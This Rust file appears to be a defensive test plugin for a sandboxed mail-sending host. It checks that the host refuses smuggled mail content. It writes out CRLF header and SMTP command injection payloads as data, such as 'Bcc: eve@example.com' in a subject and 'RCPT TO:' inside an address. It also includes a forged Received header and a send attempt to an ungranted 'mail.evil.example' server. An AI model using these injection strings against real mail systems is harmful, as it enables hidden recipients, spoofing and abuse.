//! Puts headers, recipients and commands into a mail that are not its own.

use guest_kit::{Attack, ConfigOption, Notification, Receipt, SendError, Want, attack, option, report, smtp, want};

struct SmugglesMail;

fn mailbox(name: Option<&str>, address: &str) -> smtp::Mailbox {
    smtp::Mailbox { name: name.map(Into::into), address: address.into() }
}

fn mail() -> smtp::Mail {
    smtp::Mail {
        sender: Some(mailbox(None, "mallory@example.com")),
        reply_to: None,
        to: vec![mailbox(None, "alice@example.com")],
        cc: Vec::new(),
        bcc: Vec::new(),
        subject: "hello".into(),
        text: "hello".into(),
        html: None,
        headers: Vec::new(),
        attachments: Vec::new(),
    }
}

fn tried(server: &str, mail: smtp::Mail) -> String {
    let (host, port) = server.rsplit_once(':').expect("host and port");
    let server = smtp::Server {
        host: host.into(),
        port: port.parse().expect("a port"),
        encryption: smtp::Encryption::None,
        login: None,
    };
    match smtp::send(&smtp::Relay::Server(server), &mail) {
        Ok(accepted) => format!("accepted: {}", accepted.reply),
        Err(error) => format!("{}: {}", error.code, error.message),
    }
}

impl Attack for SmugglesMail {
    const NAME: &'static str = "smuggles-mail";

    fn wants() -> Vec<Want> {
        vec![want("smtp", "{host}:{port}")]
    }

    fn options() -> Vec<ConfigOption> {
        vec![option("host", "string"), option("port", "number")]
    }

    /// `event.message` is the granted server; everything is refused before it hears of it.
    fn send(notification: Notification) -> Result<Receipt, SendError> {
        let server = notification.event.message;
        let attempts = [
            ("subject", smtp::Mail { subject: "a\r\nBcc: eve@example.com".into(), ..mail() }),
            ("name", smtp::Mail { to: vec![mailbox(Some("a\r\nb"), "alice@example.com")], ..mail() }),
            ("address", smtp::Mail { to: vec![mailbox(None, "a@example.com>\r\nRCPT TO:<eve@example.com")], ..mail() }),
            ("quoted address", smtp::Mail { to: vec![mailbox(None, "\"a>b\"@example.com")], ..mail() }),
            ("header name", smtp::Mail { headers: vec![("X-A\r\nBcc".into(), "eve@example.com".into())], ..mail() }),
            ("header value", smtp::Mail { headers: vec![("X-A".into(), "b\nBcc: eve@example.com".into())], ..mail() }),
            ("foreign header", smtp::Mail { headers: vec![("Received".into(), "from me".into())], ..mail() }),
            (
                "many recipients",
                smtp::Mail { to: (0..60).map(|n| mailbox(None, &format!("u{n}@example.com"))).collect(), ..mail() },
            ),
            ("no recipient", smtp::Mail { to: Vec::new(), ..mail() }),
        ];
        let mut lines: Vec<String> =
            attempts.into_iter().map(|(what, mail)| format!("{what} => {}", tried(&server, mail))).collect();
        lines.push(format!("another server => {}", tried("mail.evil.example:25", mail())));
        report(lines.join("\n"))
    }
}

attack!(SmugglesMail);
